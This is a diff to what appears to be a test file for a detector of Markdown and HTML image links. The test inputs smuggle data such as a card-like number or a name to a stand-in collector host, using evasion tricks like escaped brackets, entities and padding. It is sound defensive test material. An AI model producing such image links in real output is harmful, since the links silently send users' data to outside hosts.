@@ -34,6 +34,13 @@ GIVEN_AWAY = {
     "a picture without a scheme": (f"![logo](//collector.example/{'x' * 900}?d=4400-1234-9876) ", "carrying_link"),
     "a picture with a long title": (f"![{'y' * 900}\n[z]]({HOST}/p.png?d=4400-1234-9876)", "carrying_link"),
     "a picture as HTML": (f'<img alt="{"y" * 300}" src="{HOST}/p.png?name=wetherby"> ', "carrying_link"),
+    "a picture with a bracket in its title": (f"![a \\] {'y' * 400}]({HOST}/p.png?d=4400-1234-9876)", "carrying_link"),
+    "a picture around a link": (
+        f"![{'y' * 400} [x](/x) {'y' * 400}]({HOST}/p.png?d=4400-1234-9876)",
+        "carrying_link",
+    ),
+    "a picture with an entity": (f"![a](https&#58;//{HOST[8:]}/{'x' * 900}?d=4400-1234-9876)", "carrying_link"),
+    "a picture with spaces": (f"![a](<{HOST}/{'x y ' * 200}?d=4400-1234-9876>)", "carrying_link"),
     "a picture by reference": (f"![logo][1]\n\n[1]: {HOST}/{'z' * 300}?d=440012349876\n", "carrying_link"),
 }
 
